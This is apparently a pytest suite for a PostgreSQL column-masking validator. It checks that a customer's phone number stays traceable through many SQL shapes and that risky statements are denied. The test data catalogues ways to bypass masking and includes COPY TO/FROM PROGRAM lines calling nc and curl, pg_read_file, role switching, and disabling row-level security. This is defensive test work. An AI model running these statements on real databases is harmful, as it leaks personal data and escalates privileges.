"""Shapes by which other checkers were passed: each is seen through, or denied.

Column checks by regular expression or by a foreign grammar lost the column behind an alias, a
function, a sub-query or a set operation, let pass what they could not parse, and looked at output
columns only.  For each shape here the customer's phone number (level 1) is still known to be behind
what comes back, or the statement is denied.
"""

from __future__ import annotations

import pytest

from pgmask.facts.schema import Schema
from pgmask.lineage.model import Column, Use
from pgmask.verdict.validator import Validator
from tests.verdict.world import codes, found, insurer

pytestmark = pytest.mark.requirement("I1", "I2")

SEEN = {
    "alias": "SELECT phone AS id FROM crm.customer",
    "alias that is another column's name": "SELECT phone AS status FROM crm.customer",
    "concat()": "SELECT concat('x', phone) FROM crm.customer",
    "operator": "SELECT 'x' || phone FROM crm.customer",
    "function over it": "SELECT reverse(substr(phone, 1)) FROM crm.customer",
    "cast": "SELECT phone::text::bigint FROM crm.customer",
    "nested sub-queries": "SELECT x FROM (SELECT x FROM (SELECT phone AS x FROM crm.customer) a) b",
    "sub-query as a column": "SELECT (SELECT phone FROM crm.customer LIMIT 1)",
    "CTE": "WITH a AS (SELECT phone FROM crm.customer) SELECT * FROM a",
    "CTE with columns renamed": "WITH a (z) AS (SELECT phone FROM crm.customer) SELECT z FROM a",
    "recursive CTE": "WITH RECURSIVE a (n, p) AS (SELECT 1, phone FROM crm.customer UNION ALL"
    " SELECT n + 1, p FROM a WHERE n < 3) SELECT p FROM a",
    "union": "SELECT status FROM crm.customer UNION ALL SELECT phone FROM crm.customer",
    "star": "SELECT * FROM crm.customer",
    "star of a star": "SELECT * FROM (SELECT * FROM crm.customer) AS a",
    "star among others": "SELECT 1, c.*, 2 FROM crm.customer AS c",
    "whole row": "SELECT c FROM crm.customer AS c",
    "whole row as text": "SELECT c::text FROM crm.customer AS c",
    "row_to_json": "SELECT row_to_json(c) FROM crm.customer AS c",
    "json of a sub-query": "SELECT json_agg(t) FROM (SELECT phone FROM crm.customer) AS t",
    "field of a row": "SELECT (c).phone FROM crm.customer AS c",
    "table alias with columns": "SELECT c.z FROM crm.customer AS c (a, b, c, d, e, f, g, h, z)",
    "lateral": "SELECT l.x FROM crm.customer AS c, LATERAL (SELECT c.phone AS x) AS l",
    "values": "SELECT v.x FROM crm.customer AS c, LATERAL (VALUES (c.phone)) AS v (x)",
    "unnest": "SELECT u FROM crm.customer AS c, unnest(ARRAY[c.phone]) AS u",
    "array": "SELECT ARRAY(SELECT phone FROM crm.customer)",
    "aggregate": "SELECT string_agg(phone, ',') FROM crm.customer",
    "window": "SELECT first_value(phone) OVER () FROM crm.customer",
    "case": "SELECT CASE WHEN id > 0 THEN phone END FROM crm.customer",
    "coalesce": "SELECT coalesce(NULL, phone) FROM crm.customer",
    "quoted and folded": 'SELECT "phone", PHONE FROM "crm".CUSTOMER',
    "unicode escapes": 'SELECT U&"ph\\006Fne" FROM crm.customer',
    "comments inside": "SELECT/**/phone/*x*/FROM--y\ncrm.customer",
    "no schema": "SELECT phone FROM customer",
    "TABLE": "TABLE crm.customer",
    "join": "SELECT b.phone FROM crm.policy AS p JOIN crm.customer AS b ON b.id = p.holder_id",
    "join using": "SELECT phone FROM crm.policy JOIN crm.customer USING (unit_id, status)",
    "natural join": "SELECT phone FROM crm.customer NATURAL JOIN (SELECT 1 AS one) AS x",
    "SQL function": "SELECT crm.first_three(phone) FROM crm.customer",
    "returning": "UPDATE crm.customer SET status = status WHERE id = 1 RETURNING phone",
    "returning in a CTE": "WITH u AS (UPDATE crm.customer SET status = status WHERE id = 1"
    " RETURNING phone) SELECT * FROM u",
    "explain": "EXPLAIN ANALYZE SELECT phone FROM crm.customer",
    "cursor": "DECLARE c CURSOR FOR SELECT phone FROM crm.customer",
    "prepared": "PREPARE p AS SELECT phone FROM crm.customer; EXECUTE p",
    "copy of a query": "COPY (SELECT phone FROM crm.customer) TO STDOUT",
    "xmlforest": "SELECT xmlforest(phone) FROM crm.customer",
    "second statement": "SELECT 1; SELECT phone FROM crm.customer",
    "empty statement first": ";; SELECT phone FROM crm.customer",
}
CONDITIONS = {
    "WHERE": ("SELECT id FROM crm.customer WHERE phone > '139'", Use.FILTER),
    "HAVING": ("SELECT 1 FROM crm.customer HAVING min(phone) > '1'", Use.FILTER),
    "EXISTS": ("SELECT 1 WHERE EXISTS (SELECT FROM crm.customer WHERE phone ^@ '1')", Use.FILTER),
    "ORDER BY": ("SELECT id FROM crm.customer ORDER BY phone", Use.ORDER),
    "ORDER BY an expression": ("SELECT id FROM crm.customer ORDER BY phone > '139'", Use.ORDER),
    "GROUP BY": ("SELECT count(*) FROM crm.customer GROUP BY phone", Use.GROUP),
    "JOIN": ("SELECT 1 FROM crm.customer a JOIN crm.lead b ON a.phone = b.phone", Use.JOIN),
    "CASE": ("SELECT CASE WHEN phone > '139' THEN 1 END FROM crm.customer", Use.FILTER),
    "FILTER": ("SELECT count(*) FILTER (WHERE phone > '139') FROM crm.customer", Use.FILTER),
    "DELETE": ("DELETE FROM crm.contact_log WHERE value = '1'", Use.FILTER),
}
DENIED = {
    "no SQL": ("SELEC phone FROM crm.customer", "PM6"),
    "half of a statement": ("SELECT phone FROM crm.customer WHERE", "PM6"),
    "another product's comment": ("SELECT phone FROM crm.customer LIMIT 1, 2", "PM6"),
    "unknown table": ("SELECT phone FROM crm.customers", "PM6"),
    "unknown column": ("SELECT fone FROM crm.customer", "PM6"),
    "unknown function": ("SELECT crm.show(phone) FROM crm.customer", "PM6"),
    "name with a dot": ('SELECT phone FROM "crm.customer"', "PM6"),
    "a function that reads by itself": ("SELECT crm.full_name(1)", "PM638"),
    "query_to_xml": ("SELECT query_to_xml('SELECT phone FROM crm.customer', true, true, '')",
                     "PM632"),
    "table_to_xml": ("SELECT table_to_xml('crm.customer', true, true, '')", "PM632"),
    "ts_stat": ("SELECT * FROM ts_stat('SELECT phone::tsvector FROM crm.customer')", "PM632"),
    "large object": ("SELECT lo_from_bytea(0, phone::bytea) FROM crm.customer", "PM632"),
    "file": ("SELECT pg_read_file('base/1/1259')", "PM632"),
    "program": ("COPY (SELECT phone FROM crm.customer) TO PROGRAM 'nc host 1'", "PM631"),
    "program, from": ("COPY crm.campaign FROM PROGRAM 'curl http://host'", "PM631"),
    "notify": ("SELECT pg_notify('x', phone) FROM crm.customer", "PM633"),
    "into a table": ("CREATE TABLE crm.t AS SELECT name FROM crm.customer", "PM636"),
    "select into": ("SELECT name INTO crm.t FROM crm.customer", "PM636"),
    "into a table that is there": ("INSERT INTO crm.ref_bank (code, name, card_prefix)"
                                   " SELECT 'x', name, 'y' FROM crm.customer", "PM636"),
    "view": ("CREATE VIEW crm.v AS SELECT phone FROM crm.customer", "PM637"),
    "DO": ("DO $$ BEGIN EXECUTE 'SELECT phone FROM crm.customer'; END $$", "PM635"),
    "base table": ("SELECT phone FROM crm_store.customer", "PM620"),
    "partition": ("SELECT value FROM crm.contact_log_2025h1", "PM681"),
    "another profile's view": ("SELECT phone FROM service.customer", "PM621"),
    "role": ("SET ROLE pgmask_store", "PM640"),
    "role by set_config": ("SELECT set_config('role', 'pgmask_store', true)", "PM640"),
    "setting by a computed name": ("SELECT set_config('ro' || 'le', 'x', true)", "PM641"),
    "session user": ("SET SESSION AUTHORIZATION postgres", "PM640"),
    "token": ("SELECT set_config('pgmask.token', 'x', true)", "PM641"),
    "grant": ("GRANT SELECT ON crm.customer TO PUBLIC", "PM642"),
    "row security": ("ALTER TABLE crm_store.customer DISABLE ROW LEVEL SECURITY", "PM643"),
    "statement after a good one": ("SELECT 1; SELECT phone FROM crm_store.customer", "PM620"),
}  # fmt: skip


@pytest.fixture
def agent(schema: Schema) -> Validator:
    return Validator(schema, catalogue=insurer(), profile="agent")


@pytest.mark.parametrize("shape", SEEN)
def test_the_column_is_seen_through(agent: Validator, shape: str) -> None:
    verdicts = agent.validate(SEEN[shape])
    columns = {
        (s.column.table, s.column.column, s.level)
        for v in verdicts
        for o in v.outputs
        for s in o.sources
    }
    inner = {
        (s.column.table, s.column.column, 1)
        for v in verdicts
        for one in v.lineage.inner
        for o in one.outputs
        for s in o.sources
    }
    told = "\n".join(found(verdicts))
    assert ("customer", "phone", 1) in columns | inner, told
    shown = [s for v in verdicts for o in v.outputs for s in o.sources if s.level == 1]
    assert all(s.form.value != "truth" for s in shown), told
    assert not [f for v in verdicts for f in v.findings if f.path], told


@pytest.mark.parametrize("shape", CONDITIONS)
def test_what_only_decides_is_seen(agent: Validator, shape: str) -> None:
    sql, use = CONDITIONS[shape]
    (verdict,) = agent.validate(sql)
    column = "value" if "value" in sql else "phone"
    table = "contact_log" if column == "value" else "customer"
    read = {(r.column, r.use) for r in verdict.lineage.reads}
    assert (Column("crm", table, column), use) in read, read


@pytest.mark.parametrize("shape", DENIED)
def test_what_cannot_be_known_or_must_not_be_is_denied(agent: Validator, shape: str) -> None:
    sql, code = DENIED[shape]
    verdicts = agent.validate(sql)
    told = "\n".join(found(verdicts))
    assert verdicts[-1].verdict == "deny", told
    assert any(c.startswith(code) for c in codes(verdicts)), told
